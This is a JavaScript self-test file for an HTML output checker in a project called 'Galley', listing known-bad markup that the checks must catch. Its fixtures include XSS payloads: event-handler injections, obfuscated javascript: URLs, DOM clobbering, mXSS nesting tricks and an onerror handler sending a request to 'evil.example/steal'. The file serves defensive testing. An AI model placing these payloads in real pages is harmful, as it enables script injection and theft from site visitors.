// Proves that the checks can fail: known-bad markup, handed to the checks as
// if Galley had written it, must be caught with the expected problem; a
// well-formed, inert output must pass. Run before the suite, so that a broken
// harness cannot pass everything.

import { checkBatch } from './lib/checks.mjs';

const CTX = { idPrefix: 'h-' };
const PAGE_START = '<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">\n<title>t</title>\n';
const embed = (sandbox) => '<figure class="galley-embed galley-embed-youtube"><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="t" width="560" height="315" loading="lazy" referrerpolicy="strict-origin-when-cross-origin" ' +
  `sandbox="${sandbox}" allow="encrypted-media; picture-in-picture; fullscreen" allowfullscreen></iframe></figure>`;
const page = (head, article) => `${PAGE_START}${head}</head>\n<body>\n<article class="galley-article">${article}</article>\n</body>\n</html>\n`;

export const SELF_TESTS = [
  { mode: 'fragment', html: '<p>Hello <a href="https://ok.example/" rel="noopener noreferrer">link</a> &amp; <img src="x" alt="" loading="lazy"></p>\n<h2 id="h-x">x</h2>', expect: [] },
  { mode: 'article', html: '<article class="galley-article"><header class="galley-header"><h1 class="galley-title">T</h1></header></article>', expect: [] },
  { mode: 'document', html: page('<script type="application/ld+json">{"a":"\\u003c/script\\u003e"}</script>\n', '<p>x</p>'), expect: [] },
  { mode: 'fragment', html: '<img src="https://evil.example/x.png" alt="">', expect: [] },
  { mode: 'fragment', html: embed('allow-scripts allow-same-origin allow-presentation allow-popups'), expect: [] },
  { mode: 'fragment', html: embed('allow-scripts allow-same-origin allow-top-navigation'), expect: [/iframe sandbox/] },
  { mode: 'fragment', html: '<img src="x" onerror="alert(1)">', expect: [/event handler/, /script ran alert/] },
  { mode: 'fragment', html: '<details open ontoggle="xss()">x</details>', expect: [/event handler/, /script ran xss/] },
  { mode: 'fragment', html: '<img src="x" onerror="this.onerror=null;this.loading=\'eager\';this.src=\'https://evil.example/steal?\'+1">', expect: [/event handler/, /request image: "https:\/\/evil\.example\/steal\?1"/] },
  { mode: 'fragment', html: '<a href="javascript:alert(1)">x</a>', expect: [/javascript: URL/] },
  { mode: 'fragment', html: '<a href=" java&#x09;script:alert(1)">x</a>', expect: [/javascript: URL/] },
  { mode: 'fragment', html: '<img src="x" srcset="y 1x, javascript:alert(1) 2x">', expect: [/srcset.*javascript: URL/] },
  { mode: 'fragment', html: '<a href="data:text/html,x">x</a>', expect: [/data: URL/] },
  { mode: 'fragment', html: '<img src="x" name="cookie">', expect: [/name="cookie"/, /document.cookie is a string/] },
  { mode: 'fragment', html: '<p id="location">x</p>', expect: [/lacks the prefix/] },
  { mode: 'fragment', html: '<p style="color:red">x</p>', expect: [/CSS/] },
  { mode: 'fragment', html: '<p><div>x</div></p>', expect: [/tree differs/] },
  { mode: 'fragment', html: '<div>x', expect: [/never closed/] },
  { mode: 'fragment', html: 'x</div><p id="h-after">y</p>', expect: [/while <#root> is open/, /breaks out/] },
  { mode: 'fragment', html: '<svg><style><img src=x onerror=alert(1)></style></svg>', expect: [/<svg> element/, /event handler/, /script ran alert/] },
  { mode: 'fragment', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', expect: [/<form> element/, /mXSS/] },
  { mode: 'fragment', html: '<p><math display="block"><mrow><msup><mi>x</mi><mn>2</mn></msup><mo>+</mo><mtext>a b</mtext></mrow></math></p>', expect: [] },
  { mode: 'fragment', html: '<math><mi><b>x</b></mi></math>', expect: [/HTML <b> inside math/, /element children/] },
  { mode: 'fragment', html: '<math><maction actiontype="toggle"><mi>x</mi></maction></math>', expect: [/<maction> outside the subset/] },
  { mode: 'fragment', html: '<math href="https://ok.example/"><mi>x</mi></math>', expect: [/MathML <math href>/] },
  { mode: 'fragment', html: '<p id="uc-x">x</p><p id="sec-y">y</p>', ctx: { idPrefix: ['sec-', 'uc-'] }, expect: [] },
  { mode: 'fragment', html: '<script>alert(1)</script>', expect: [/<script> element/] },
  { mode: 'fragment', html: '<figure class="galley-embed"><iframe src="https://evil.example/" sandbox="allow-scripts"></iframe></figure>', expect: [/not the embed template/, /sandbox/] },
  { mode: 'fragment', html: '<link rel="prefetch" href="//evil.example/p">', expect: [/<link> element/] },
  { mode: 'article', html: '<p>not an article</p>', expect: [/article mode output/] },
  { mode: 'document', html: page('', '<img src="x" onerror="xssCanary=1">'), expect: [/event handler/, /loaded as a page: script ran canary/] },
  { mode: 'document', html: page('<script type="application/ld+json">{"a":"<!--<script>"}</script>\n', '<p>x</p>'), expect: [/JSON-LD that is not JSON/, /tree differs/] },
  { mode: 'document', html: page('<meta http-equiv="refresh" content="0;url=/elsewhere">\n', '<p>x</p>'), expect: [/<meta content http-equiv>/, /elsewhere/] },
  { mode: 'document', html: page('', '<script>alert(1)</script>'), expect: [/<script> element/, /loaded as a page: script ran alert/] },
  { mode: 'document', html: page('<style>p{background:url(//evil.example/x)}</style>\n', '<p>x</p>'), expect: [/not Galley's stylesheet/] },
  { mode: 'document', html: '<html><head><title>t</title></head><body><article class="galley-article">x</article></body></html>', expect: [/quirks mode/] },
];

export async function runSelfTest(harness) {
  const items = SELF_TESTS.map((t, i) => ({ key: `self.${i}`, mode: t.mode, html: t.html, ctx: t.ctx ?? CTX }));
  const { verdicts } = await checkBatch(harness, items);
  const failures = [];
  SELF_TESTS.forEach((t, i) => {
    const problems = verdicts.get(`self.${i}`);
    const missing = t.expect.filter((re) => !problems.some((p) => re.test(p)));
    if (t.expect.length === 0 && problems.length) failures.push(`harness self-test ${i}: ${JSON.stringify(t.html)} should pass but got:\n      ${problems.join('\n      ')}`);
    else if (missing.length) failures.push(`harness self-test ${i}: ${JSON.stringify(t.html)} should report ${missing.join(', ')} but got:\n      ${problems.join('\n      ') || 'nothing'}`);
  });
  return { count: SELF_TESTS.length, failures };
}
